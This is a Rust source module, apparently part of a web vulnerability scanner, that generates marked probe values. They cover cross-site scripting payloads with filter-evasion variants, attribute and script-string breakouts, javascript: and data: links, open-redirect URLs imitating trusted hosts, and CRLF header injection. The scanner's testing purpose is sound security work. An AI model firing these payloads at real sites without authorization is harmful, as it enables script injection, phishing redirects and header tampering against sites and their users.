//! What is sent: rows of the lists of attacks with a marker in each, chosen by where a plain value came out.

use super::super::attacks;
use super::judge::Place;
use super::marker::Family;
use super::message::Value;
use std::collections::BTreeSet;

/// Where the marker goes.
pub(super) const M: &str = "\u{E000}";

#[derive(Debug, Clone)]
pub(super) struct Payload {
    pub(super) family: Family,
    pub(super) template: String,
    pub(super) is_raw: bool,
}

impl Payload {
    pub(super) fn new(family: Family, template: impl Into<String>) -> Self {
        Self { family, template: template.into(), is_raw: false }
    }

    /// Escaped already.
    pub(super) fn raw(family: Family, template: impl Into<String>) -> Self {
        Self { is_raw: true, ..Self::new(family, template) }
    }

    pub(super) fn value(&self, marker: super::marker::Marker) -> Value {
        let text = self.template.replace(M, marker.as_str());
        if self.is_raw { Value::Raw(text) } else { Value::Text(text) }
    }
}

/// A row with its call, or its host, made the marker's; none where it has neither.
fn marked(row: &str) -> Option<String> {
    for call in ["alert(1)", "alert`1`", "alert(document.domain)", "alert(2)"] {
        if row.contains(call) {
            return Some(row.replace(call, &call.replace("alert", M)));
        }
    }
    row.contains("evil").then(|| row.replace("evil", M))
}

fn rows(list: impl Iterator<Item = &'static attacks::Attack>) -> Vec<String> {
    list.filter(|row| row.is_hostile()).filter_map(|row| marked(row.value)).collect()
}

/// Some of a list, others for each seed.
fn some(list: Vec<String>, count: usize, seed: u64) -> Vec<String> {
    let start = usize::try_from(seed % (list.len().max(1) as u64)).unwrap_or(0);
    let step = (list.len() / count.max(1)).max(1);
    let mut list: Vec<Option<String>> = list.into_iter().map(Some).collect();
    let len = list.len();
    (0..count.min(len)).filter_map(|at| list[(start + at * step) % len].take()).collect() // below its length
}

/// How many of a family are tried before anything else is.
pub(super) fn first(family: Family) -> usize {
    match family {
        Family::Html | Family::Attribute => 4,
        Family::Uri => 3,
        Family::Code | Family::Redirect => 8,
        Family::Line => 1,
        _ => 2,
    }
}

/// What is tried in a place; the first of a family are the ones that find most.
pub(super) fn chosen(
    places: &BTreeSet<Place>,
    is_kept: bool,
    (is_target, may_lead): (bool, bool),
    is_link: bool,
    hosts: &[&str],
    seed: u64,
) -> Vec<Payload> {
    let mut all = Vec::new();
    let mut push = |family: Family, list: Vec<String>| {
        all.extend(list.into_iter().map(|template| Payload::new(family, template)));
    };
    let has = |place: Place| places.contains(&place);
    let is_page = [Place::Text, Place::Attribute, Place::Address, Place::Script, Place::Data]
        .iter()
        .any(|place| has(*place));
    // What fits the place best comes first, and what it finds is not told a second time by another name.
    let is_text = has(Place::Text) || !is_page;
    if has(Place::Script) {
        push(Family::Code, code());
    }
    if has(Place::Script) || has(Place::Data) {
        push(
            Family::ScriptEnd,
            SCRIPT_ENDS
                .iter()
                .map(|end| {
                    format!("{end}{M}(1){}", if end.ends_with("<script>") { "</script>" } else { ">" })
                })
                .collect(),
        );
    }
    if is_page && !is_text {
        push(Family::Attribute, attributes(usize::MAX));
    }
    // Where nothing is seen, an error page may show it all the same.
    push(Family::Html, basic(if is_page { usize::MAX } else { 2 }));
    if is_page && (has(Place::Text) || is_kept) {
        push(Family::Html, some(rows(attacks::html()), if is_kept { 40 } else { 3 }, seed));
    }
    if is_page && is_text {
        let is_attribute = has(Place::Attribute) || has(Place::Address);
        push(Family::Attribute, attributes(if is_attribute { usize::MAX } else { 4 }));
    }
    if has(Place::Address) || is_kept || is_page && is_link {
        push(Family::Uri, addresses());
    }
    if is_target || has(Place::Location) {
        push(Family::Redirect, redirects(hosts));
    } else if may_lead || has(Place::Script) {
        // So may a script, or one that reads the answer.
        push(Family::Redirect, redirects(hosts).into_iter().take(first(Family::Redirect)).collect());
    }
    if has(Place::Header) || has(Place::Location) {
        push(
            Family::Parameter,
            vec![format!("v; {M}=1"), format!("v\"; {M}=\"1"), format!("v\\\"; {M}=\"1"), format!("v;{M}")],
        );
        push(Family::Line, vec![format!("v\r\n{M}: 1"), format!("v\n{M}: 1"), format!("v\r{M}: 1")]);
    }
    all
}

/// What ends a script, or a style sheet, up to the word that runs.
pub(super) const SCRIPT_ENDS: [&str; 4] = [
    "</script><img src=x onerror=",
    "</script ><script>",
    "</SCRIPT/><svg onload=",
    "</style><img src=x onerror=",
];

/// What ends an attribute and its tag, up to the word that runs.
pub(super) const TAG_END: &str = "\"'><img src=x onerror=";

/// A link in the two notations that programs make of text, to see whether one is made of it.
pub(super) fn link() -> Payload {
    Payload::new(Family::Plain, format!("[{M}](/{M}) [url=/{M}]{M}[/url]"))
}

/// Links in those notations that run, or leave their attribute.
pub(super) fn links() -> Vec<Payload> {
    let both = |family: Family, address: String| {
        Payload::new(family, format!("[x]({address}) [url={address}]x[/url]"))
    };
    vec![
        both(Family::Uri, format!("javascript:{M}%281%29")),
        both(Family::Uri, format!("JaVaScRiPt:{M}%281%29")),
        both(Family::Uri, format!("data:text/html,%3Cscript%3E{M}%281%29%3C/script%3E")),
        both(Family::Attribute, format!("/\"{M}=\"")),
        both(Family::Attribute, format!("/'{M}='")),
    ]
}

fn attributes(count: usize) -> Vec<String> {
    let mut values =
        vec![format!("{M}1\" {M}=\""), format!("{M}1' {M}='"), format!("{M}1 {M}=1"), format!("{M}1\t{M}=1")];
    values.extend(rows(attacks::attribute_values()).into_iter().filter(|row| !row.contains('<')));
    values.truncate(count);
    values
}

fn basic(count: usize) -> Vec<String> {
    let mut list = vec![
        format!("<script>{M}(1)</script>"),
        format!("{TAG_END}{M}(1)>"),
        format!("--></title></textarea></style></noscript></select></template><svg onload={M}(1)>"),
        format!("--!><img src=x onerror={M}(1)>"),
        format!("<a href=\"javascript:{M}(1)\">x</a>"),
        format!("<ScRiPt/x>{M}(1)</sCrIpT >"),
        format!("<scr<script>ipt>{M}(1)</scr</script>ipt>"),
        format!("%3Cimg src=x onerror={M}(1)%3E"),
        format!("&lt;img src=x onerror={M}(1)&gt;"),
        format!("\u{FF1C}img src=x onerror={M}(1)\u{FF1E}"),
        format!("<img/src/onerror={M}(1)//"),
        // Where not much is kept.
        format!("</title><svg onload={M}(1)>"),
        format!("</textarea><svg onload={M}(1)>"),
        // Short, and no element that a filter knows.
        format!("<{M}>"),
    ];
    list.truncate(count);
    list
}

fn addresses() -> Vec<String> {
    let mut list = vec![format!("javascript:{M}(1)"), format!("data:text/html,<script>{M}(1)</script>")];
    list.extend(rows(attacks::uris()));
    list.push(format!("javascript://example.com/%0a{M}(1)//https://example.com/"));
    list.push(format!("//{M}.example/"));
    list
}

fn code() -> Vec<String> {
    [
        format!("\";{M}(1);//"),
        format!("';{M}(1);//"),
        format!("\"-{M}(1)-\""),
        format!("'-{M}(1)-'"),
        format!("\\\";{M}(1);//"),
        format!("\\';{M}(1);//"),
        format!("${{{M}(1)}}"),
        format!("`;{M}(1);//"),
        format!("1;{M}(1)"),
        format!("*/{M}(1);/*"),
        format!("x\n{M}(1)//"),
        format!("');{M}(1);//"),
        format!("&#39;);{M}(1);//"),
    ]
    .into()
}

/// Addresses of another site, some of which look like those of a host that the site trusts.
fn redirects(hosts: &[&str]) -> Vec<String> {
    let mut list =
        vec![format!("https://{M}.example/"), format!("//{M}.example/"), format!("/\\{M}.example/")];
    for host in hosts {
        list.extend([
            format!("https://{M}.example/{host}"),
            format!("https://{host}.{M}.example/"),
            format!("https://{host}@{M}.example/"),
            format!("https://{M}{host}/"),
            format!("//{M}.example/?https://{host}/"),
        ]);
    }
    let host = hosts.first().copied().unwrap_or("app.test");
    list.extend(rows(attacks::redirects()).into_iter().map(|row| row.replace("app.test", host)));
    list
}
